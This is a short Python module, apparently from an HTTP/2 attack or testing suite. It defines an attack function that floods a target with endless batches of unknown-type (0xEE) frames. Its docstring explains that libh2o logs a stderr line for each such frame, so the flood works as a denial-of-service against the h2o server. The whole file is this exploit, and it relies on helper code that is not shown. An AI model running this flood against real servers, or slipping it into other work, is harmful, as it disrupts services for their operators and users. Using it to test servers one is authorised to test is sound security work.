# SPDX-License-Identifier: Apache-2.0
"""Frames of a kind nobody knows: libh2o prints a line on stderr for each."""
import itertools

from lib.http2 import frame


def attack(target):
    return target.flood(lambda: itertools.repeat(frame(0xEE, 0, 0, b"x") * 100))
